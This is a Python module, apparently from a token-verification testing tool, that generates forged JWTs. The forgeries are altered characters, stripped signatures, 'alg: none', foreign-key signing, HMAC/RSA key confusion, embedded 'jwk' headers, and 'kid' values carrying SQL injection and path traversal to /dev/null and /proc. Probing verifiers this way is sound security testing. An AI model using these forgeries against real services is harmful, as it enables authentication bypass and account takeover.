"""Tokens that look right and are not: altered in one character, or forged."""

import contextlib
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any, Final

from idprobe.errors import EvidenceError, UsageError
from idprobe.formats.jose import (
    encode,
    looks_like_jwt,
    public_key,
    public_pem,
    read_jwt,
    sign_jws,
    sign_jwt,
    spare_key,
)

__all__ = ["altered", "forgeries", "forgeries_by_header"]

NEXT: Final = {"z": "a", "Z": "A", "9": "0", "f": "a", "F": "A"}
KIDS: Final[Mapping[str, tuple[str, bytes]]] = {
    "kid-query": ("idprobe' UNION SELECT 'idprobe", b"idprobe"),
    "kid-empty-file": ("../../../../../../dev/null", b""),
    "kid-known-file": ("../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
}
"""Names of keys that lead a careless reader to octets which we know, and the octets."""
JWT_PARTS: Final = ("header", "claims", "signature")


def altered(token: str) -> str:
    """Return the token with one character in its middle replaced, so that its octets differ.

    The new character is of the same kind (a hexadecimal digit stays one), and in the middle of
    base64url text every character counts in full.
    """
    middle = len(token) // 2
    for place in (*range(middle, len(token)), *range(middle)):
        if token[place].isascii() and token[place].isalnum():
            return token[:place] + _other(token[place]) + token[place + 1 :]
    raise EvidenceError("the token has nothing that could be altered")


def _other(character: str) -> str:
    return NEXT.get(character) or chr(ord(character) + 1)


def forgeries(token: str) -> Iterator[tuple[str, str]]:
    """Yield (what was done, forged token): one for an opaque token, several for a JWT."""
    yield "altered", altered(token)
    if not looks_like_jwt(token):
        return
    parts = token.split(".")
    for index, name in enumerate(JWT_PARTS):
        changed = [*parts[:index], altered(parts[index]), *parts[index + 1 :]]
        yield f"altered-{name}", ".".join(changed)
    yield "without-signature", f"{parts[0]}.{parts[1]}."
    claims = dict(read_jwt(token).claims)
    yield "alg-none", sign_jwt(claims, {}, {**read_jwt(token).header, "alg": "none"})
    yield "own-key", _signed_by_us(token, claims)
    later = int(datetime.now(UTC).timestamp()) + 3600
    yield "own-key-own-claims", _signed_by_us(token, {**claims, "sub": "idprobe", "exp": later})


def _signed_by_us(token: str, claims: dict[str, Any]) -> str:
    """Return the claims under the token's own header, signed with a key that nobody knows."""
    header = dict(read_jwt(token).header)
    kty = "EC" if str(header.get("alg")).startswith("ES") else "RSA"
    alg = {"EC": "ES256", "RSA": "RS256"}[kty]
    return sign_jwt(claims, spare_key("stranger", kty), {**header, "alg": alg})


def forgeries_by_header(
    token: str, published: Sequence[Mapping[str, Any]]
) -> Iterator[tuple[str, str]]:
    """Yield copies of a JWT whose header asks for another way to verify it (RFC 8725 2.1, 3.10).

    The published key, if it can be read, is a secret; the key is in the header or anywhere else, or
    there is none.
    """
    header, claims = dict(read_jwt(token).header), dict(read_jwt(token).claims)
    payload = json.dumps(claims).encode()
    yield "alg-none-in-other-case", sign_jws(payload, {}, {**header, "alg": "nOnE"}, alg="none")
    key = next((one for one in published if one.get("kid") == header.get("kid")), None)
    if key is not None:
        with contextlib.suppress(UsageError):
            yield "hmac-by-pem", _by_hmac(header, payload, public_pem(key).encode())
        as_text = json.dumps(dict(key), separators=(",", ":"))
        yield "hmac-by-jwk", _by_hmac(header, payload, as_text.encode())
    for name, (kid, octets) in KIDS.items():
        yield name, _by_hmac({**header, "kid": kid}, payload, octets)
    stranger = spare_key("stranger", "RSA")
    embedded = {**header, "alg": "RS256", "jwk": public_key(stranger)}
    yield "embedded-key", sign_jwt(claims, stranger, embedded)


def _by_hmac(header: Mapping[str, Any], payload: bytes, secret: bytes) -> str:
    """Return a JWT by HS256 with any octets as its key."""
    start = f"{encode(json.dumps({**header, 'alg': 'HS256'}).encode())}.{encode(payload)}"
    return f"{start}.{encode(hmac.new(secret, start.encode(), hashlib.sha256).digest())}"
